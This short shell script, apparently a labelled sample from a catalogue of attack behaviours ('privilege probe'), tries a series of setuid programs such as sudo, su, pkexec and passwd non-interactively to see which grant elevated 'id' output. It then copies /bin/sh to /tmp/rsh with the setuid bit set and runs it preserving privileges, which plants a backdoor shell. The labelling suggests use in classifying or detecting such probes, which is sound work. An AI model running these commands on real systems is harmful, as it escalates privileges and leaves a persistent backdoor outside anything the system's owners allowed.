# class: privilege probe; possible: low medium; style: setuid programs tried in a row
for p in sudo su pkexec mount umount newgrp passwd chsh gpasswd; do
    command -v $p && echo | timeout 3 $p -n id 2>&1 | head -2
done
cp /bin/sh /tmp/rsh && chmod 4755 /tmp/rsh && /tmp/rsh -p -c id
